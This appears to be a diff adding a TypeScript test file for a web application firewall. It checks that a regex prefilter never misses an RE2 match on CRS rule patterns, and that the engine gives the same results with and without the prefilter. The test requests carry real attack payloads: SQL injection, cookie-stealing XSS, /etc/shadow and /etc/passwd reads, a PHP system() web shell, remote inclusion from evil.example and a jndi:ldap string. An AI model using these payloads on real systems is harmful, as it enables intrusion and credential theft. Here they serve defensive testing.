@@ -1,0 +1,261 @@
+/**
+ * The prefilter's safety property, checked against RE2 itself: whenever RE2 (flags `sm`, the pattern passed
+ * through withPcreSpaces as the engine does) matches a value, the prefilter lists that pattern as a candidate.
+ * A violation would be a missed attack, so the corpus is built to hit the patterns: CRS's regression-test
+ * requests (decoded and transformed), strings generated from each pattern's own syntax tree, the required
+ * literals embedded in noise, and characters beyond latin1 that fold onto ASCII under `(?i)`.
+ */
+import RE2 from 're2';
+import { withPcreSpaces } from '../../src/operators/regex';
+import { patternRequirement, RegexPrefilter, worthPrefiltering, type Candidates } from '../../src/prefilter/regex-prefilter';
+import { parseRegex, type RegexNode } from '../../src/prefilter/regex-syntax';
+import { atomsOf, type Requirement } from '../../src/prefilter/requirements';
+import { compilesUnderRe2 } from '../../src/rules/regex-sets';
+import { runTransaction, type TestRequest } from '../engine/helpers';
+import { crsTestValues, crsWaf, rxPatterns, seededRandom, urlDecode } from './corpus';
+
+interface Analysed {
+  pattern: string;
+  source: string;
+  re: RE2;
+  requirement: Exclude<Requirement, true>;
+  worth: boolean;
+  ast: RegexNode;
+}
+
+/** Characters outside latin1 that RE2's `(?i)` folds onto latin1 letters. */
+const WIDE_FOLDS: Record<string, string> = { k: '\u212a', s: '\u017f', å: '\u212b' };
+
+const PUNCT = ' \t\n\r!"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~';
+const LETTERS = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
+
+function pick<T>(rnd: () => number, xs: ArrayLike<T>): T {
+  return xs[Math.floor(rnd() * xs.length)]!;
+}
+
+function randomChar(rnd: () => number): string {
+  const r = rnd();
+  if (r < 0.45) return pick(rnd, LETTERS);
+  if (r < 0.85) return pick(rnd, PUNCT);
+  if (r < 0.97) return String.fromCharCode(0x80 + Math.floor(rnd() * 0x80));
+  return String.fromCharCode(Math.floor(rnd() * 0x20));
+}
+
+function randomText(rnd: () => number, max: number): string {
+  let s = '';
+  const n = Math.floor(rnd() * (max + 1));
+  for (let i = 0; i < n; i++) s += randomChar(rnd);
+  return s;
+}
+
+/** A string drawn from the pattern's language as the parser reads it (RE2 remains the judge). */
+function generate(node: RegexNode, rnd: () => number, out: string[], budget: { left: number }): void {
+  if (budget.left <= 0) return;
+  switch (node.kind) {
+    case 'char':
+      out.push(String.fromCodePoint(node.code));
+      budget.left--;
+      return;
+    case 'set': {
+      const members: number[] = [];
+      for (let c = 0; c < 256; c++) if (node.members[c]) members.push(c);
+      if (members.length === 0 || (node.wide && rnd() < 0.1)) out.push(String.fromCodePoint(0x100 + Math.floor(rnd() * 0x200)));
+      else out.push(String.fromCharCode(pick(rnd, members)));
+      budget.left--;
+      return;
+    }
+    case 'any':
+      out.push(randomChar(rnd));
+      budget.left--;
+      return;
+    case 'empty':
+      return;
+    case 'concat':
+      for (const p of node.parts) generate(p, rnd, out, budget);
+      return;
+    case 'alternate':
+      generate(pick(rnd, node.options), rnd, out, budget);
+      return;
+    case 'repeat': {
+      const spread = Math.min(node.max - node.min, 3);
+      const n = node.min + Math.floor(rnd() * (spread + 1));
+      for (let i = 0; i < n; i++) generate(node.node, rnd, out, budget);
+      return;
+    }
+  }
+}
+
+function mutateCase(s: string, rnd: () => number): string {
+  let out = '';
+  for (const ch of s) out += rnd() < 0.5 ? ch.toUpperCase() : ch.toLowerCase();
+  // toUpperCase can leave latin1 (ÿ -> Ÿ, µ -> Μ): that is fine, such values must yield null candidates.
+  return out;
+}
+
+function wideFolds(s: string): string {
+  return s.replace(/[ksåKSÅ]/g, (c) => WIDE_FOLDS[c.toLowerCase()]!);
+}
+
+function variants(v: string): string[] {
+  return [v, v.toLowerCase(), v.toUpperCase(), v.replace(/\s+/g, ' '), v.replace(/\s+/g, '')];
+}
+
+function analyse(patterns: string[]): { analysed: Analysed[]; unanalysable: number; noRequirement: number } {
+  const analysed: Analysed[] = [];
+  let unanalysable = 0;
+  let noRequirement = 0;
+  for (const pattern of patterns) {
+    const source = withPcreSpaces(pattern);
+    if (!compilesUnderRe2(source)) continue;
+    const requirement = patternRequirement(source);
+    if (requirement === undefined) {
+      try {
+        parseRegex(source);
+        noRequirement++;
+      } catch {
+        unanalysable++;
+      }
+      continue;
+    }
+    analysed.push({ pattern, source, re: new RE2(source, 'sm'), requirement, worth: worthPrefiltering(requirement), ast: parseRegex(source) });
+  }
+  return { analysed, unanalysable, noRequirement };
+}
+
+function listed(c: Candidates, index: number): boolean {
+  return c === null || c.includes(index);
+}
+
+describe('RegexPrefilter against RE2 over CRS @rx patterns', () => {
+  const waf = crsWaf();
+  const patterns = rxPatterns(waf);
+  const { analysed, unanalysable, noRequirement } = analyse(patterns);
+  const worthList = analysed.filter((a) => a.worth);
+  const worthIndex = new Map(worthList.map((a, i) => [a, i]));
+  const worthPrefilter = new RegexPrefilter(worthList.map((a) => a.requirement));
+  const allPrefilter = new RegexPrefilter(analysed.map((a) => a.requirement));
+
+  test('CRS gives many analysable patterns, and the engine prefilters exactly the worthwhile ones', () => {
+    expect(patterns.length).toBeGreaterThan(150);
+    expect(analysed.length).toBeGreaterThan(100);
+    expect(worthList.length).toBeGreaterThan(50);
+    const attached = new Set<string>();
+    const visit = (rule: NonNullable<ReturnType<typeof waf.rule>>): void => {
+      if (rule.prefilter !== undefined) attached.add(rule.operator.patternConstant!);
+      if (rule.chained) visit(rule.chained);
+    };
+    for (let p = 1; p <= 5; p++) for (const r of waf.rulesForPhase(p)) visit(r);
+    expect([...attached].sort()).toEqual(worthList.map((a) => a.pattern).sort());
+    console.log(
+      `prefilter: ${patterns.length} constant @rx patterns, ${analysed.length} with a requirement ` +
+        `(${worthList.length} worth prefiltering), ${noRequirement} requiring nothing, ${unanalysable} unsupported syntax; ` +
+        `${allPrefilter.atomCount} atoms`,
+    );
+  });
+
+  function corpus(): string[] {
+    const rnd = seededRandom(0x5eed);
+    const values = new Set<string>();
+    for (const v of crsTestValues()) {
+      for (const d of new Set([v, urlDecode(v, false), urlDecode(v, true), urlDecode(urlDecode(v, true), true)])) {
+        for (const x of variants(d)) values.add(x);
+      }
+    }
+    for (const a of analysed) {
+      // Strings from the pattern's own syntax tree, in noise, in mixed case, and with wide case folds.
+      for (let i = 0; i < 12; i++) {
+        const out: string[] = [];
+        generate(a.ast, rnd, out, { left: 400 });
+        const sample = out.join('');
+        const embedded = randomText(rnd, 6) + sample + randomText(rnd, 6);
+        values.add(sample);
+        values.add(embedded);
+        values.add(mutateCase(embedded, rnd));
+        if (i < 3) values.add(wideFolds(sample));
+      }
+      // Each required literal alone and in noise.
+      for (const atom of atomsOf(a.requirement)) {
+        values.add(randomText(rnd, 8) + mutateCase(atom, rnd) + randomText(rnd, 8));
+        values.add(wideFolds(atom));
+      }
+    }
+    for (let i = 0; i < 3000; i++) values.add(randomText(rnd, 40));
+    return [...values];
+  }
+
+  test('every RE2 match is a prefilter candidate', () => {
+    const values = corpus();
+    expect(values.length).toBeGreaterThan(10000);
+    let pairs = 0;
+    let matches = 0;
+    let rejectedByWorth = 0;
+    let rejectedByAll = 0;
+    const violations: string[] = [];
+    for (const value of values) {
+      const cWorth = worthPrefilter.candidates(value);
+      const cAll = allPrefilter.candidates(value);
+      if (/[^\x00-\xff]/.test(value)) {
+        expect(cWorth).toBeNull();
+        expect(cAll).toBeNull();
+      }
+      analysed.forEach((a, i) => {
+        pairs++;
+        const wi = worthIndex.get(a);
+        const okAll = listed(cAll, i);
+        const okWorth = wi === undefined || listed(cWorth, wi);
+        if (!okAll) rejectedByAll++;
+        if (!okWorth) rejectedByWorth++;
+        if (!a.re.test(value)) return;
+        matches++;
+        if ((!okAll || !okWorth) && violations.length < 20) {
+          violations.push(`${JSON.stringify(a.source)} matches ${JSON.stringify(value.slice(0, 300))} (all:${okAll} worth:${okWorth})`);
+        }
+      });
+    }
+    console.log(
+      `prefilter differential: ${values.length} values x ${analysed.length} patterns = ${pairs} pairs; ${matches} RE2 matches; ` +
+        `pairs skipped by the prefilter: ${rejectedByAll} (all patterns), ${rejectedByWorth} (worthwhile ones)`,
+    );
+    expect(violations).toEqual([]);
+    // The corpus must actually exercise both sides of the property.
+    expect(matches).toBeGreaterThan(20000);
+    expect(rejectedByAll).toBeGreaterThan(pairs / 2);
+  });
+});
+
+describe('the engine with and without the prefilter', () => {
+  const withPrefilter = crsWaf();
+  const without = crsWaf({ regexPrefilter: false });
+
+  const attacks: TestRequest[] = [
+    { uri: "/?id=1'%20union%20select%20password%20from%20users--", headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
+    { uri: '/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
+    { uri: '/?file=../../../../etc/passwd', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
+    { uri: '/?cmd=;cat%20/etc/shadow', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
+    { uri: '/?x=%3C%3Fphp%20system($_GET[c]);%20%3F%3E', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
+    { uri: '/?u=http://evil.example/shell.txt?', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
+    { uri: '/', headers: [['Host', 'example.com'], ['User-Agent', 'sqlmap/1.5.2#stable (http://sqlmap.org)']] },
+    {
+      method: 'POST',
+      uri: '/login',
+      headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0'], ['Content-Type', 'application/x-www-form-urlencoded']],
+      body: 'user=admin%27%20OR%201%3D1--&pass=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D',
+    },
+    {
+      method: 'POST',
+      uri: '/api',
+      headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0'], ['Content-Type', 'application/json']],
+      body: '{"q":"1; DROP TABLE users","t":"<img src=x onerror=alert(1)>","k":"\u212aelvin SELECT"}',
+    },
+    { uri: '/index.html?page=2&sort=name', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0'], ['Accept', 'text/html']] },
+  ];
+
+  test.each(attacks.map((req, i) => [i, req] as const))('request %i gives the same matched rules', (i, req) => {
+    const a = runTransaction(withPrefilter, req, { id: `p${i}` });
+    const b = runTransaction(without, req, { id: `p${i}` });
+    const ids = (r: typeof a): number[] => r.tx.matchedRules.map((m) => m.id);
+    expect(ids(a)).toEqual(ids(b));
+    expect(a.interruption?.ruleId).toEqual(b.interruption?.ruleId);
+    if (i < attacks.length - 1) expect(ids(a).length).toBeGreaterThan(0);
+  });
+});
